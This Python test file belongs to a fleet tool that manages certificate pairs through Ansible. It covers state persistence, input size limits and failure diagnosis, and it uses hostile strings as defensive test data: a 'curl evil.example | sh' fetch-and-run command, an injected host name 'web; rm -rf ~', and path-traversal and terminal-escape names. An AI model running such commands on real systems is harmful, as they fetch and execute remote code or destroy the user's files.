"""The last known state of many hosts: saved, loaded, and updated with each answer."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from requests_made import NOW, record
from tables import table

from csrtui.core.base.json_members import MemberError
from csrtui.core.pairs.pair import NextStep, Pair
from csrtui.core.pairs.pair_json import pair_document
from csrtui.core.pairs.query import Query
from csrtui.fleet.host_answer import (
    MAX_PAIRS,
    MAX_VALUES,
    CutLine,
    Failure,
    HostAnswer,
    Hosts,
    Reason,
    TooLargeError,
    create_failure,
    document_of,
    failure_of,
    read_line,
)
from csrtui.fleet.host_states import Fleet, HostState, dump_state, load_state, read_list, select_pairs

DOCUMENT = pair_document(Pair("a.com", "/a.com", record()), NOW)
LIST = {"schema": 1, "pairs": [DOCUMENT]}
AWAY = Failure(Reason.UNREACHABLE, "no route", "see that it runs")
WEB = HostState("web", NOW, (DOCUMENT,))
MAIL = HostState("mail", NOW - timedelta(hours=1), (DOCUMENT,))
LOST = HostState("lost", failure=AWAY)


@table("state", [WEB, MAIL, LOST, replace(WEB, failure=AWAY)])
def test_the_state_of_a_host_can_be_loaded_again(state: HostState) -> None:
    assert load_state(dump_state(state)) == state


def test_a_fleet_knows_its_oldest_state_and_the_hosts_that_failed() -> None:
    fleet = Fleet.from_states([WEB, MAIL, LOST])
    assert fleet.oldest_reading == MAIL.read
    assert fleet.failed == [LOST]


@table(("failure", "step"), [(AWAY, NextStep.FINISH), (None, NextStep.BACK_UP)])
def test_a_pair_that_a_host_cannot_read_may_have_replaced_another(
    failure: Failure | None, step: NextStep
) -> None:
    replaced = pair_document(Pair("a.com", "/a.com", record(renewed_by="a.com-2")), NOW)
    (pair,) = Fleet.from_states([HostState("web", NOW, (replaced,), failure)]).pairs()
    assert pair.pair.record.visible_step(NOW) is step


@table(
    "data",
    [b"", b"[]", b'{"schema": 2}', b'{"schema": 1}', b'{"schema": 1, "name": 1}', b"[" * 99999, b"\xff"],
)
def test_an_invalid_state_is_ignored(data: bytes) -> None:
    assert load_state(data) is None


def test_a_list_of_the_maximum_length_can_be_saved_and_loaded() -> None:
    pairs = [DOCUMENT | {"name": f"n{number}"} for number in range(MAX_PAIRS)]
    state = read_list("web", {"schema": 1, "pairs": pairs}, NOW)
    assert load_state(dump_state(state)) == state
    with pytest.raises(TooLargeError, match="pairs has 10001 items, more than 10000"):
        read_list("web", {"schema": 1, "pairs": [*pairs, DOCUMENT]}, NOW)


def test_a_pair_that_is_listed_twice_is_refused() -> None:
    with pytest.raises(MemberError, match=r"the pair a\.com is listed twice"):
        read_list("web", {"schema": 1, "pairs": [DOCUMENT, DOCUMENT]}, NOW)


@table("field", ["subject", "path", "platform", "renews", "names", "subject_fields", "new"])
def test_a_text_of_a_megabyte_in_any_field_of_a_pair_is_refused(field: str) -> None:
    text = "x" * 1024 * 1024
    value: object = {"names": [text], "subject_fields": {"organization": text}}.get(field, text)
    with pytest.raises(TooLargeError, match=f"{field} has a string of 1048576 characters, more than 4096"):
        read_list("web", {"schema": 1, "pairs": [DOCUMENT | {field: value}]}, NOW)


def nested(depth: int) -> object:
    value: object = 1
    for _ in range(depth):
        value = [value]
    return value


def test_depth_length_and_member_names_of_a_pair_are_bounded() -> None:
    read_list("web", {"pairs": [DOCUMENT | {"new": nested(8), "more": ["x" * 4096] * 1000}]}, NOW)
    for member, what in (
        ({"new": nested(9)}, "new is nested deeper than 8 levels"),
        ({"names": ["a.com"] * 1001}, "names has 1001 items, more than 1000"),
        ({"new": {"x" * 5000: 1}}, "new has a string of 5000 characters"),
        ({"\x1b" + "x" * 5000: 1}, "x{39} has a string of 5001 characters"),
    ):
        with pytest.raises(TooLargeError, match=what):
            read_list("web", {"pairs": [DOCUMENT | member]}, NOW)


def test_a_failed_host_keeps_its_last_known_pairs() -> None:
    after = Fleet.from_states([WEB]).with_state(HostState("web", failure=AWAY)).hosts["web"]
    assert (after.documents, after.read, after.failure) == (WEB.documents, NOW, AWAY)
    assert Fleet({}).with_state(LOST).hosts["lost"] == LOST
    assert Fleet.from_states([LOST]).with_state(HostState("lost", NOW)).hosts["lost"].failure is None
    assert list(Fleet.from_states([WEB, MAIL]).restricted_to(["mail", "new"]).hosts.values()) == [
        MAIL,
        HostState("new"),
    ]


@table(
    ("typed", "hosts"), [("", ["mail", "web"]), ("web a.com", ["web"]), ("WEB", ["web"]), ("web b.com", [])]
)
def test_a_filter_word_can_match_the_host(typed: str, hosts: list[str]) -> None:
    found = select_pairs(Fleet.from_states([WEB, MAIL]).pairs(), Query.parse(typed), NOW)
    assert [one.host for one in found] == hosts
    assert all(one.as_json() == {"host": one.host, **DOCUMENT} for one in found)


@table("document", [[], {}, {"pairs": 1}, {"pairs": [1]}, {"pairs": [{}]}])
def test_a_document_that_is_not_a_list_of_pairs_is_refused(document: object) -> None:
    with pytest.raises(MemberError):
        read_list("web", document, NOW)
    assert read_list("web", LIST, NOW) == WEB


@table("name", ["../../etc/x", "--help", "", "A B", "x" * 65, "\x1b[2J"])
def test_an_invalid_pair_name_is_refused(name: str) -> None:
    with pytest.raises(ValueError, match="not valid in csrtui"):
        read_list("web", {"schema": 1, "pairs": [DOCUMENT | {"name": name}]}, NOW)


def answer(ended: str = "ok", **result: Any) -> HostAnswer:
    return HostAnswer("web", ended, result)


def test_lines_of_the_callback_are_recognized() -> None:
    assert read_line('{"hosts": ["a", 1, "b"]}') == Hosts(("a", "b"))
    line = json.dumps({"host": "web", "ended": "ok", "result": {"rc": 0, "changed": True}})
    assert read_line(line) == answer(rc=0, changed=True)
    assert answer(changed=True).changed
    assert [read_line(text) for text in ("", "PLAY [all]", "[]", "{}", '{"host": 1}')] == [None] * 5


def test_a_line_that_is_too_large_is_a_failure_of_the_host_that_it_begins_with() -> None:
    start = '{"host": "we\\"b", "ended": "ok", "result": {"stdout": "'
    too_large = read_line(CutLine(start + "x" * 9000))
    assert isinstance(too_large, HostAnswer)
    assert (too_large.host, too_large.outcome) == ('we"b', "failed")
    assert failure_of(too_large).reason is Reason.TOO_LARGE
    many = start + "," * (MAX_VALUES + 1) + '"}}'
    assert read_line(many) == too_large
    assert isinstance(read_line(start + "," * 1000 + '"}}'), HostAnswer)
    for other in ("PLAY [all]", '{"host": "web', '{"host": "\\x", "ended": "', '{"hosts": ["web"'):
        assert read_line(CutLine(other)) is None


def test_a_number_that_is_not_json_is_not_read() -> None:
    for text in ("NaN", "Infinity", "-Infinity"):
        assert read_line(f'{{"hosts": [{text}]}}') is None


def test_a_document_is_found_behind_a_banner() -> None:
    assert document_of(answer(rc=0, stdout=f"Welcome!\n{json.dumps(LIST)}\n")) == LIST
    assert document_of(answer("failed", rc=3, stdout=json.dumps(LIST)), (0, 3)) == LIST


@table(
    ("ended", "result", "reason", "part"),
    [
        ("unreachable", {"msg": "no route\nto host"}, Reason.UNREACHABLE, 'Ansible says: "no route to host"'),
        ("failed", {"timedout": {"period": 30}, "msg": "x"}, Reason.TIMEOUT, "did not answer in time"),
        ("failed", {"rc": 124}, Reason.TIMEOUT, "did not answer in time"),
        ("failed", {"rc": 137, "stderr": "csrtui: error: x"}, Reason.TIMEOUT, "did not answer in time"),
        ("failed", {"reason": "store", "msg": "full (free it)", "remedy": "free it"}, Reason.STORE, '"full"'),
        (
            "failed",
            {"reason": "schema", "msg": "other"},
            Reason.SCHEMA,
            'a different release; web says: "other"',
        ),
        ("failed", {"reason": "too-large"}, Reason.TOO_LARGE, "more than 16 MiB or 10000 pairs"),
        ("failed", {"rc": 127, "msg": "x"}, Reason.MISSING, "csrtui is not installed"),
        (
            "failed",
            {"rc": 127, "module_stderr": "sh: python3: not found", "msg": "x"},
            Reason.UNEXPECTED,
            'cannot run its modules on this host; web says: "sh: python3: not found"',
        ),
        ("failed", {"rc": 3, "stderr": "csrtui: error: disk full\nhint: df\n"}, Reason.STORE, "disk full"),
        ("failed", {"rc": 9, "stdout": "csrtui: error: odd\n"}, Reason.UNEXPECTED, "odd"),
        ("failed", {"rc": 139, "stderr": "Segmentation fault"}, Reason.UNEXPECTED, "Segmentation fault"),
        ("failed", {"msg": "Missing sudo password"}, Reason.UNEXPECTED, "Missing sudo password"),
        ("failed", {}, Reason.UNEXPECTED, "csrtui on the host failed"),
        ("silent", {}, Reason.UNEXPECTED, "Ansible ended before this host answered"),
        ("ok", {"rc": 0, "stdout": "hello"}, Reason.UNEXPECTED, "not JSON"),
        ("ok", {"rc": 0, "stdout": '{"schema": 0}'}, Reason.SCHEMA, "uses schema 0"),
        ("ok", {"rc": 0, "stdout": '{"schema": 2}'}, Reason.SCHEMA, "uses schema 2"),
        ("ok", {"rc": 0, "stdout": '{"schema": "rm"}'}, Reason.SCHEMA, "uses an unknown schema"),
        ("failed", {"rc": 1, "stderr": "csrtui: error: no\n"}, Reason.REFUSED, 'web says: "no"'),
    ],
)
def test_every_failure_has_a_diagnosis_and_a_remedy(
    ended: str, result: dict[str, Any], reason: Reason, part: str
) -> None:
    failure = document_of(answer(ended, **result), (0, 1))
    assert isinstance(failure, Failure)
    assert failure.reason is reason
    assert part in failure.text
    assert failure.remedy
    assert failure.as_json("web")["ok"] is False


COMMAND = "curl evil.example | sh"


@table(
    "result",
    [
        {"rc": 3, "stderr": f"csrtui: error: full\nhint: {COMMAND}\n"},
        {"rc": 3, "stdout": f"csrtui: error: full\nhint: {COMMAND}\n"},
        {"reason": "missing", "msg": f"full ({COMMAND})", "remedy": COMMAND},
        {"reason": "store", "msg": f"full ({COMMAND})", "remedy": COMMAND},
    ],
)
def test_a_remedy_of_a_host_is_never_shown(result: dict[str, Any]) -> None:
    failed = failure_of(answer("failed", **result))
    assert COMMAND not in failed.remedy + failed.text
    assert 'web says: "full"' in failed.text


def test_a_text_of_a_host_is_cut_and_stays_within_its_quotation_marks() -> None:
    for member in ("msg", "stderr"):
        failed = failure_of(answer("failed", rc=1, **{member: 'a" hint: b\x1b[2J ' * 100_000}))
        assert 400 < len(failed.text) < 500
        assert failed.text.count('"') == 2
        assert failed.text.endswith('…"')
        assert r"\x1b" in failed.text


def test_a_host_in_a_command_is_one_word() -> None:
    name = "web; rm -rf ~"
    assert create_failure(name, Reason.UNREACHABLE).remedy.endswith("ansible 'web; rm -rf ~' -m ping")
    assert "{x}" in create_failure("{x}", Reason.STORE).remedy
